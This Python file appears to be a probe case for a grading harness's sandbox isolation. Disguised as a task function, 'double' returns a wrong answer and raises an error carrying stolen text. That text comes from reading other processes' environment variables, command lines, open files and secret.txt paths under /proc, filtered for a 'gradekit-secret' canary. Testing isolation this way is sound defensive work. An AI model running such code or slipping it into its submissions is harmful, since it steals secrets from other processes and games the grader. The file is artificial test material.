"""Reads what /proc tells of other processes: variables, arguments, memory, open files.

deserves: 0
in E: leaks: processes of the user can be looked into
"""

import contextlib
import glob
import os


def find():
    found = []
    for pid in ("@BYSTANDER@", "@PID@", str(os.getppid()), "1", "self"):
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
                found.append(file.read().decode("utf-8", "replace"))
        for link in glob.glob(f"/proc/{pid}/fd/*") + [f"/proc/{pid}/cwd/secret.txt", f"/proc/{pid}/root@ROOT@/home/secret.txt"]:
            with contextlib.suppress(OSError), open(os.open(link, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
                found.append((file.read(10_000) or b"").decode("utf-8", "replace"))
    return " ".join(text for text in found if "gradekit-secret" in text)[:2000]


def double(x):
    loot = find()
    if loot:
        raise RuntimeError(loot)
    return 0


def shift(x):
    return x
